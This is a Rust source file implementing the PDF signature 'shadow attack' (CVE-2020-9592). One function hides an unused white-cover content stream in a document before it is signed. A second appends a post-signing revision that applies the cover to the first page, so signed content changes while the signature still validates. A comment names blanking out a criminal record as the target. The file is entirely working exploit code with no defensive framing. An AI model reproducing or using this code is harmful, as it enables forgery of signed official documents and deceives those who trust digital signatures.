//! A shadow attack (CVE-2020-9592): a paper that is prepared before it is signed, so that it can be changed afterwards without a wrong
//! digest anywhere. What hides a part of the page is in the file when it is signed, and not in use; a later revision uses it.

use std::error::Error;

use crate::core::pdf::document::Document;
use crate::core::pdf::object::{Dictionary, Object, Reference};
use crate::core::pdf::page;
use crate::core::pdf::update::Update;

type Failure = Box<dyn Error>;

/// Paints what the criminal record says white.
const COVER: &[u8] = b"q 1 1 1 rg 60 180 500 330 re f Q";

/// The paper with a cover in it that nothing shows, and which object that is.
pub fn prepare(paper: &[u8]) -> Result<(Vec<u8>, Reference), Failure> {
    let document = Document::read(paper)?;
    let mut update = Update::new(&document);
    let cover = update.add_stream(Dictionary::default(), COVER.to_vec());
    Ok(([paper, &update.finish()?.octets].concat(), cover))
}

/// The signed paper with a revision behind it that puts the cover on its first page.
pub fn reveal(signed: &[u8], cover: Reference) -> Result<Vec<u8>, Failure> {
    let document = Document::read(signed)?;
    let first = *page::pages(&document)?.first().ok_or("a paper without pages")?;
    let mut update = Update::new(&document);
    let shown = update.dictionary(first)?;
    let mut contents = match shown.get(b"Contents").map(|contents| &contents.object) {
        Some(Object::Array(contents)) => contents.iter().map(|one| one.object.clone()).collect(),
        Some(content) => vec![content.clone()],
        None => Vec::new(),
    };
    contents.push(Object::Reference(cover));
    update.put(first, Object::Dictionary(shown.with("Contents", Object::of_array(contents))));
    Ok([signed, &update.finish()?.octets].concat())
}
